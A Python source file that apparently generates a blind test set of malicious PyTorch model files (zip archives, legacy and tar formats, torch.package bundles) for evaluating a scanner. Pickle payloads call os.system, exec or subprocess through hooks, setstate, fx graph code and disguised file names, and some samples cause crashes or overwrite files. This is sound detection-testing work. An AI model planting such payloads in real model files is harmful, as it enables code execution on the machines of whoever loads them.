"""The third blind set: PyTorch archives, old files and packages."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import struct
import zipfile
from collections.abc import Iterator, Mapping

from corpora.unseen3_base import (
    CODE,
    COMMANDS,
    VICTIM,
    Build,
    G,
    Raw,
    Sample,
    call,
    dumps,
    gzipped,
    new,
    opcodes,
    tarred,
    zipped,
)

EVIL = call("os:system", COMMANDS[0])
LOAD = "import torch; torch.load(f, weights_only=False)"
MAGIC = b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
Files = dict[str, bytes]


def tensor(key: str = "0", size: int = 4, storage: str = "FloatStorage", shape: tuple[int, ...] = (4,)) -> Raw:
    """What torch writes for a tensor: a call with a persistent id for its storage."""
    strides = tuple(1 for _ in shape)
    storage_id = opcodes(("storage", G(f"torch:{storage}"), key, "cpu", size), 2) + b"Q"
    args = storage_id + opcodes(0, 2) + opcodes(shape, 2) + opcodes(strides, 2) + b"\x89"
    return Raw(b"ctorch._utils\n_rebuild_tensor_v2\n(" + args + b"ccollections\nOrderedDict\n)RtR")


def archive(
    value: object, top: str = "archive", more: Mapping[str, bytes] | None = None, method: int = zipfile.ZIP_STORED
) -> bytes:
    members = {f"{top}/data.pkl": dumps(value, 2), f"{top}/byteorder": b"little", f"{top}/data/0": b"\0" * 16}
    return zipped({**members, f"{top}/version": b"3\n", **(more or {})}, method)


def _zips() -> Iterator[tuple[str, Files, str]]:
    state = {"conv1.weight": tensor(), "conv1.bias": tensor()}
    yield "state-dict", {"resnet18.pth": archive({**state, "epoch": EVIL})}, LOAD
    yield "popped-in-front", {"model.pt": archive(Raw(opcodes(EVIL, 2) + b"0" + opcodes(state, 2)))}, LOAD
    yield "hooks", {"model.pt": archive([tensor(), new("torch.utils.hooks:RemovableHandle"), EVIL])}, LOAD
    yield "no-extension", {"pytorch_model-00001-of-00002": archive(state | {"x": EVIL}, "pytorch_model")}, LOAD
    yield "named-safetensors", {"model.safetensors": archive(state | {"x": EVIL})}, LOAD
    yield "deflated", {"last.ckpt": archive(state | {"x": EVIL}, "last", None, zipfile.ZIP_DEFLATED)}, LOAD
    twice = [
        ("m/data.pkl", dumps(state, 2)),
        ("m/data.pkl", dumps(EVIL, 2)),
        ("m/version", b"3\n"),
        ("m/data/0", b"\0" * 16),
    ]
    yield "data-pkl-twice", {"m.pt": zipped(twice)}, LOAD
    yield "data-pkl-twice-evil-first", {"m.pt": zipped([twice[1], twice[0], *twice[2:]])}, LOAD
    yield "prefixed", {"m.pt": b"#!/bin/sh\nexit 0\n" + b" " * 47 + archive(EVIL)}, LOAD
    yield "nested-storage", {"m.pt": archive({"w": call("torch.storage:_load_from_bytes", archive(EVIL))})}, LOAD
    yield (
        "nested-legacy",
        {
            "m.pt": archive(
                {
                    "w": call(
                        "torch.storage:_load_from_bytes",
                        MAGIC + dumps(1001, 2) + dumps({}, 2) + dumps(EVIL, 2) + dumps([], 2),
                    )
                }
            )
        },
        LOAD,
    )
    yield (
        "subclass",
        {
            "m.pt": archive(
                call(
                    "torch._tensor:_rebuild_from_type_v2",
                    G("builtins:exec"),
                    G("torch.nn.parameter:Parameter"),
                    (CODE[0],),
                    {},
                )
            )
        },
        LOAD,
    )
    yield (
        "parameter-state",
        {
            "m.pt": archive(
                call(
                    "torch._utils:_rebuild_parameter_with_state",
                    tensor(),
                    True,
                    call("collections:OrderedDict"),
                    {"__setstate__": EVIL},
                )
            )
        },
        LOAD,
    )
    yield (
        "wrapper-subclass",
        {
            "m.pt": archive(
                [
                    call(
                        "torch._utils:_rebuild_wrapper_subclass",
                        G("torch:Tensor"),
                        G("torch:float32"),
                        (1,),
                        (1,),
                        0,
                        G("torch:strided"),
                        "cpu",
                        False,
                    ),
                    EVIL,
                ]
            )
        },
        LOAD,
    )
    module = {
        "training": False,
        "_parameters": {},
        "_buffers": {},
        "_modules": {},
        "_backward_hooks": {},
        "_forward_hooks": {},
        "_non_persistent_buffers_set": None,
    }
    hooks = {**module, "_forward_pre_hooks": {0: call("functools:partial", G("os:system"), COMMANDS[0])}}
    yield "whole-module-hook", {"net.pt": archive(Build(new("torch.nn.modules.linear:Identity"), hooks))}, LOAD + "(1)"
    forward = {**module, "_forward_pre_hooks": {}, "forward": call("functools:partial", G("os:system"))}
    yield (
        "whole-module-forward",
        {"net.pt": archive(Build(new("torch.nn.modules.linear:Identity"), forward))},
        LOAD + "('touch /tmp/x')",
    )
    keep = {
        **module,
        "_forward_pre_hooks": {},
        "_state_dict_pre_hooks": {1: call("functools:partial", G("builtins:exec"), CODE[0])},
        "_state_dict_hooks": {},
    }
    yield (
        "state-dict-hook",
        {"net.pt": archive(Build(new("torch.nn.modules.container:Sequential"), keep))},
        LOAD + ".state_dict()",
    )
    graph = call(
        "torch.fx.graph_module:reduce_graph_module",
        {"_code": f"\ndef forward(self, x):\n    {CODE[0]}\n    return x\n", "_modules": {}},
        "import os\n",
    )
    yield "graph-module-forward", {"quantized.pt": archive(graph)}, LOAD
    field = "def forward(self, x):\n    return x\n" + CODE[1]
    yield (
        "graph-module-body",
        {"traced.pt": archive(call("torch.fx.graph_module:reduce_graph_module", {"code": field}, "import torch\n"))},
        LOAD,
    )
    bases = call("torch.nn.modules.container:Sequential", call("torch.nn.modules.linear:Identity"))
    yield (
        "setattr-import",
        {"net.pt": archive({"model": bases, "optimizer_states": [], "callbacks": {"EarlyStopping": EVIL}})},
        LOAD,
    )
    data = call(
        "torch.utils.data.dataloader:DataLoader",
        call("torch.utils.data.dataset:TensorDataset", tensor()),
        1,
        False,
        None,
        None,
        0,
        G("os:system"),
    )
    yield (
        "dataloader",
        {
            "loader.pt": archive(
                call("builtins:list", call("builtins:map", G("os:system"), [COMMANDS[0]])),
                more={"archive/loader": dumps(data, 2)},
            )
        },
        LOAD,
    )


def _old() -> Iterator[tuple[str, Files, str]]:
    end = dumps([], 2)
    yield (
        "object",
        {"old.pth": MAGIC + dumps(1001, 2) + dumps({"little_endian": True}, 2) + dumps({"w": EVIL}, 2) + end},
        LOAD,
    )
    yield "magic", {"old.pth": dumps(EVIL, 2)}, LOAD
    yield "version", {"old.pth": MAGIC + dumps(EVIL, 2)}, LOAD
    yield "system", {"old.t7": MAGIC + dumps(1001, 2) + dumps({"type_sizes": EVIL}, 2)}, LOAD
    yield "storage-keys", {"old.pt": MAGIC + dumps(1001, 2) + dumps({}, 2) + dumps([1.0], 2) + dumps([EVIL], 2)}, LOAD
    yield "text-protocol", {"old.bin": MAGIC + dumps(1001, 0) + dumps({}, 0) + dumps(EVIL, 0) + dumps([], 0)}, LOAD
    yield (
        "gzipped",
        {"old.pth.gz": gzipped(MAGIC + dumps(1001, 2) + dumps({}, 2) + dumps(EVIL, 2) + end)},
        "import torch, gzip; torch.load(gzip.open(f), weights_only=False)",
    )
    parts = {"sys_info": dumps({}, 2), "storages": dumps(0, 2), "tensors": dumps(0, 2), "pickle": dumps(EVIL, 2)}
    yield "tar", {"ancient.pt": tarred(parts)}, LOAD
    yield "tar-storages", {"ancient.pt": tarred({**parts, "storages": dumps(EVIL, 2), "pickle": dumps(1, 2)})}, LOAD
    yield "tar-tensors", {"ancient.tar": tarred({**parts, "tensors": dumps(EVIL, 2), "pickle": dumps(1, 2)})}, LOAD


def _packages() -> Iterator[tuple[str, Files, str]]:
    base = {
        "p/.data/version": b"6\n",
        "p/.data/extern_modules": b"os\nsubprocess\ntorch\n",
        "p/.data/python_version": b"3.11.7",
    }
    load = "import torch.package; i = torch.package.PackageImporter(f); i.load_pickle('model', 'model.pkl')"
    yield (
        "module",
        {
            "net.pt": zipped(
                {
                    **base,
                    "p/net/__init__.py": CODE[0].encode() + b"\nclass Net:\n    pass\n",
                    "p/model/model.pkl": dumps(new("net:Net"), 3),
                }
            )
        },
        load,
    )
    yield "reduce", {"net.pt": zipped({**base, "p/model/model.pkl": dumps(EVIL, 3)})}, load
    yield (
        "import-module",
        {
            "pkg.pt": zipped(
                {
                    **base,
                    "p/models/resnet.py": b"import subprocess\nsubprocess.run(['touch', '/tmp/x'])\n",
                    "p/models/__init__.py": b"",
                }
            )
        },
        "import torch.package; torch.package.PackageImporter(f).import_module('models.resnet')",
    )
    graph = call("torch.fx.graph_module:reduce_package_graph_module", {}, "gen_0")
    del graph
    yield (
        "lazy-init",
        {
            "pkg.pt": zipped(
                {
                    **base,
                    "p/a/__init__.py": b"",
                    "p/a/b.py": b"import os\nclass N:\n    def __setstate__(self, state):\n        os.system(state['run'])\n",
                    "p/model/model.pkl": dumps(Build(new("a.b:N"), {"run": COMMANDS[1]}), 3),
                }
            )
        },
        load,
    )
    yield (
        "extern-only",
        {"pkg.pt": zipped({**base, "p/model/model.pkl": dumps(call("subprocess:check_call", ["touch", "/tmp/x"]), 4)})},
        load,
    )


def samples() -> Iterator[Sample]:
    for family, rows in (("torch-zip", _zips()), ("torch-old", _old()), ("torch-package", _packages())):
        for name, files, loader in rows:
            yield Sample(f"{family}/{name}", files, loader, "code")
    safe = "import torch; torch.load(f, weights_only=True)"
    yield Sample(
        "torch-zip/allocates",
        {
            "m.pt": archive(
                call(
                    "torch:ones" if False else "torch._utils:_rebuild_device_tensor_from_numpy",
                    call("numpy:ones", (2**33,)),
                    G("torch:float32"),
                    "cpu",
                    False,
                )
            )
        },
        LOAD,
        "crash",
    )
    sparse = call(
        "torch._utils:_rebuild_sparse_tensor",
        G("torch:sparse_csr"),
        (
            tensor("0", 2, "LongStorage", (2,)),
            tensor("0", 2, "LongStorage", (2,)),
            tensor("0", 2, "FloatStorage", (2,)),
            (1, 99),
            False,
        ),
    )
    content = struct.pack("<qq", 0, 2**40)
    yield Sample(
        "torch-zip/sparse-out-of-range",
        {"m.pt": archive(sparse, more={"archive/data/0": content})},
        safe + ".to_dense()",
        "crash",
    )
    yield Sample("torch-zip/overwrites", {"m.pt": archive(call("torch:save", [1], VICTIM))}, LOAD, "file")
    yield Sample("torch-zip/from-file", {"m.pt": archive(call("torch:from_file", "/tmp/x", True, 64))}, LOAD, "file")
    setitem = Raw(opcodes(tensor(), 2) + opcodes(0, 2) + opcodes(1.5, 2) + b"s")
    yield Sample("torch-zip/setitem", {"m.pt": archive(setitem)}, safe, "crash")
